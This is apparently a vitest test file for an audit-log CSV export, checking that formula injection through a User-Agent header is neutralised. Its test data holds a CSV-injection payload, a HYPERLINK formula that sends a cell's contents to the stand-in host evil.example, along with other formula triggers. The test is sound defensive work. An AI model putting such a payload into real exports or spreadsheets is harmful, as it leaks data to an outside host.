import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { getDb } from "@/lib/db";
import { recordAudit } from "@/lib/domain/audit/events";
import { exportAuditEvents } from "@/lib/domain/audit/verify";
import { system } from "@/lib/testing/fixtures";
import { formulaPieces } from "@/lib/testing/spreadsheet";

// The User-Agent of an unauthenticated request reaches the audit log as sent (its first 200
// characters), and from there the CSV an auditor opens in a spreadsheet.

describe("audit export as CSV", () => {
  it("an unauthenticated client's User-Agent cannot run as a formula in a semicolon-locale spreadsheet", async () => {
    const userAgent = 'curl/8;=HYPERLINK("http://evil.example/?"&A1,"click"),-1+1;\t@SUM(A1)';
    await getDb().$transaction((tx) => recordAudit(tx, { actorKind: "anonymous", actorId: null, actorLabel: null, ip: "203.0.113.9", userAgent }, { action: "token.redeem_failed", details: { code: "token_not_found", delta: -1 } }));
    let csv = "";
    await exportAuditEvents(system, { format: "csv" }, (chunk) => (csv += chunk));
    expect(formulaPieces(csv)).toEqual([]);
    const [header, ...rows] = parse(csv) as string[][];
    const row = rows.find((r) => r[header!.indexOf("action")] === "token.redeem_failed")!;
    expect(row[header!.indexOf("userAgent")]).toBe(`curl/8;'=HYPERLINK("http://evil.example/?"&A1,"click"),'-1+1;'\t'@SUM(A1)`);
  });
});
